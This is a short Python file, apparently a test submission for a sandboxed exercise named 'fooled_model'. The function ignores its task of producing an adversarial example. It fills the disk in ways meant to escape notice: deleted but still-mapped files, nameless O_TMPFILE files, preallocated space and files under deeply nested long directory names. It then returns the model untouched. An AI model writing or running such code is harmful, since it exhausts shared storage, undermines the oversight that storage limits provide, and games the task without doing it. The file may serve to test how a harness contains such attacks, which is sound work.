# Fills the disk where nobody sees it: in deleted files that are still mapped, in files without a name, in holes that are allocated, below long paths.
# levels: 3 2
# limits: storage=16777216
# exercise: fooled_model
import mmap
import os

_kept = []
BLOCK = bytes(4 << 20)


def _hide(number):
    with open(f"hidden{number}", "w+b") as file:
        file.write(BLOCK)
        file.flush()
        os.posix_fallocate(file.fileno(), 0, 8 << 20)
        _kept.append(mmap.mmap(file.fileno(), 4096))
    os.unlink(f"hidden{number}")
    nameless = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600)
    os.write(nameless, BLOCK)
    _kept.append(nameless)


def fooled_model(model, x_star, label, sigma):
    for number in range(20):
        try:
            _hide(number)
        except OSError:
            break
    try:
        for _ in range(20):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
        for number in range(10):
            with open(f"{number}", "wb") as file:
                file.write(BLOCK)
    except OSError:
        pass
    return model
